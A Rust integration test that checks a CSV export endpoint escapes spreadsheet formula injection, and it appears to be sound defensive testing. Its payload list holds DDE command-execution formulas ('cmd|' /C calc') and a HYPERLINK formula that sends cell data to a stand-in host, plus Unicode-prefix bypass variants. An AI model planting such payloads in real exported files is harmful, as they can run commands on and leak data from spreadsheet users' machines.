//! Cells that a spreadsheet would carry out.

use std::sync::Arc;

use wuse::domain::{Change, Party, PartyKind, Revision};

use crate::app::TestApp;
use crate::fixture;

const FORMULAS: [&str; 10] = [
    "=HYPERLINK(\"http://elsewhere.example?\"&A1,\"open\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\u{3000}=1+1",
    "＝1+1",
    "＋1",
    "＠SUM(1)",
];

#[tokio::test]
async fn exported_tables_hold_texts_and_no_formulas() {
    let app = TestApp::start_empty().await;
    let Change::LayerApplied(mut layer) = fixture::layer(fixture::HONGBEI, "HB", 1, FORMULAS.len() as u32, 0) else { panic!() };
    for (item, formula) in layer.items.iter_mut().zip(FORMULAS) {
        item.code = format!("{formula}{}", item.block.0).into();
        item.name = formula.into();
        item.party = Some(Arc::new(Party { name: formula.to_owned(), kind: Some(PartyKind::School) }));
    }
    app.store
        .commit(
            Revision::ZERO,
            vec![
                fixture::entry(1, Change::LayerApplied(layer)),
                fixture::entry(2, fixture::set(fixture::HONGBEI, fixture::open_settings())),
            ],
        )
        .await
        .unwrap();
    let app = app.restart().await;
    let table = app.get("/api/v1/blocks/export.csv").await.bytes().await.unwrap();
    let mut reader = csv::Reader::from_reader(table.strip_prefix("\u{feff}".as_bytes()).unwrap());
    let names = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), FORMULAS.len());
    for (row, formula) in rows.iter().zip(FORMULAS) {
        let cell = |name: &str| row.get(names.iter().position(|other| other == name).unwrap()).unwrap();
        assert_eq!(cell("name"), format!("'{formula}"));
        assert_eq!(cell("party"), format!("'{formula}"));
        assert!(cell("code").starts_with(&format!("'{formula}")));
        for cell in row {
            let is_number = cell.parse::<f64>().is_ok();
            assert!(is_number || !cell.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{cell}");
        }
    }
    // Programs read what was given: only tables are opened by spreadsheets.
    let blocks = app.json("/api/v1/blocks?geometry=false").await;
    assert_eq!(blocks["features"][0]["properties"]["name"], FORMULAS[0]);
}
